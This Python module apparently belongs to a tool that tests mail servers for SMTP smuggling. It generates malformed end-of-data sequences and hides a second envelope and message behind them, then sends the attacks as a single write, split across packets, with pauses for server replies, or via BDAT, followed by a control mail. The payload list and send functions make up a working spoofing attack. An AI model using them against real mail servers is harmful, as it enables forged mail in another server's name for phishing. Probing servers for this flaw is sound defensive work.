"""SMTP smuggling: message data that one server takes for one message and the next one for two.

Each attack puts something that is *almost* an end of data into a message, and a second envelope and message behind it.
Whoever takes the "almost" for an end delivers the second message too, in the name of the server in front.
"""

from __future__ import annotations

import itertools
import time
from dataclasses import dataclass

from .clients import SENDER, Destination
from .messages import MARKER, Message, make
from .wire import RawSession, greet

# The functions that send attacks raise `SessionEnded` where the other side hangs up, which is its right.

#: The only end of data there is (RFC 5321 §4.1.1.4).
END_OF_DATA = b"\r\n.\r\n"

#: Seconds to wait for the answer of a server that was fooled; the others say nothing.
_PATIENCE = 0.4

#: Those that have worked somewhere; each is reported on its own.
WELL_KNOWN = [
    b"\n.\n", b"\n.\r\n", b"\n.\r", b"\r.\r", b"\r.\r\n", b"\r.\n", b"\r\n.\r", b"\r\n.\n", b"\r\n\x00.\r\n",
    b"\r\n.\x00\r\n", b"\n\r.\r\n", b"\r\n.\r\r\n"]


def variants() -> list[bytes]:
    """Every combination of broken line ends and dots that does not hold the real end of data."""
    ends = [b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\x00\r\n", b"\r\x00\n", b"\r\n\x00"]
    dots = [b".", b".\x00", b"\x00."]
    everything = (before + dot + after for before, dot, after in itertools.product(ends, dots, ends))
    return [each for each in dict.fromkeys(everything) if END_OF_DATA not in each and each not in WELL_KNOWN]


@dataclass(frozen=True)
class Attack:
    """One message with another one hidden in it, and the control mail that follows."""

    payload: bytes
    outer: Message
    inner: Message
    control: Message

    @classmethod
    def make(cls, payload: bytes) -> Attack:
        return cls(
            payload, make("outer", b"The first line"), make("smuggled", b"smuggled\r\n"), make("control", b"control\r\n"))

    @property
    def beginning(self) -> bytes:
        """What is sent after DATA up to the almost-end."""
        return self.outer.octets + self.payload

    def hidden_commands(self, to: Destination) -> list[bytes]:
        """What follows it: commands for whoever was fooled, text for everybody else."""
        return [b"MAIL FROM:<mallory@client.test>\r\n", f"RCPT TO:<victim@{to.domain}>\r\n".encode(), b"DATA\r\n"]

    @property
    def hidden_message(self) -> bytes:
        """The message that must never arrive, with the real end of data."""
        return f"{MARKER}: {self.inner.mark}\r\nSubject: smuggled\r\n\r\nsmuggled".encode() + END_OF_DATA

    def whole(self, to: Destination) -> bytes:
        """Everything after DATA."""
        return self.beginning + b"".join(self.hidden_commands(to)) + self.hidden_message


def send_at_once(to: Destination, attack: Attack) -> None:
    """The attack in one write."""
    with _begun(to) as session:
        session.ask(b"DATA\r\n")
        _end(session, attack.whole(to))


def send_cut(to: Destination, attack: Attack) -> None:
    """The attack with a pause inside the almost-end, so that it arrives in two packets."""
    with _begun(to) as session:
        session.ask(b"DATA\r\n")
        octets = attack.whole(to)
        middle = len(attack.outer.octets) + len(attack.payload) // 2
        session.send(octets[:middle])
        time.sleep(0.02)
        _end(session, octets[middle:])


def send_patiently(to: Destination, attack: Attack) -> None:
    """The attack by a client that waits for answers, for servers that refuse commands that come too early."""
    with _begun(to) as session:
        session.ask(b"DATA\r\n")
        session.send(attack.beginning)
        if not session.has_reply_within(_PATIENCE):
            _end(session, b"".join(attack.hidden_commands(to)) + attack.hidden_message)
            return
        session.reply()
        for command in attack.hidden_commands(to):
            session.ask(command)
        _end(session, attack.hidden_message)


def send_chunks(to: Destination, attack: Attack) -> None:
    """The attack with BDAT, where nothing in the data ends it; a proxy that writes it anew as DATA has to dot-stuff."""
    with _begun(to) as session:
        octets = attack.whole(to)
        _end(session, b"BDAT %d LAST\r\n%b" % (len(octets), octets))


def send_control(to: Destination, attack: Attack) -> None:
    """The control mail, which has nothing wrong with it and has to arrive."""
    with _begun(to) as session:
        session.ask(b"DATA\r\n")
        session.ask(attack.control.dot_stuffed)
        session.ask(b"QUIT\r\n")


def _begun(to: Destination) -> RawSession:
    session = RawSession(to.port)
    greet(session)
    session.ask(f"MAIL FROM:<{SENDER}>\r\n".encode())
    session.ask(f"RCPT TO:<{to.recipient}>\r\n".encode())
    return session


def _end(session: RawSession, octets: bytes) -> None:
    session.ask(octets)
    session.send(b"QUIT\r\n")
    session.remaining_replies()
